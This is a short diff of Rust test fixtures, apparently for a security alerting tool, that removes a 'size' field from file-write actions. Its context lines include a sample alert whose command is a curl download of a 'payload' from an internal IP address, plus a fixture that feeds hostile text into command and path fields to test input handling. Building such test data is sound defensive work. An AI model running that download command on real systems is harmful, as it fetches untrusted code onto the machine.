@@ -119,7 +119,7 @@ pub(crate) fn alert() -> Alert {
                 Action::Executed { command_line: "curl -sSLo /tmp/x http://10.0.0.2/payload".to_owned() },
             ),
             step(12, Action::Connected { protocol: Protocol::Tcp, address: ADDRESS, port: 80 }),
-            step(15, Action::Wrote { path: "/tmp/x".to_owned(), size: Some(1_258_291) }),
+            step(15, Action::Wrote { path: "/tmp/x".to_owned() }),
             step(
                 19,
                 Action::Disconnected {
@@ -197,7 +197,7 @@ pub(crate) fn hostile() -> Alert {
     let steps = [
         Action::Executed { command_line: hostile_text() },
         Action::Opened { path: hostile_text() },
-        Action::Wrote { path: hostile_text(), size: None },
+        Action::Wrote { path: hostile_text() },
         Action::Renamed { from: hostile_text(), to: hostile_text() + "r" },
         Action::Exited { status: None, signal: Some(9) },
     ];
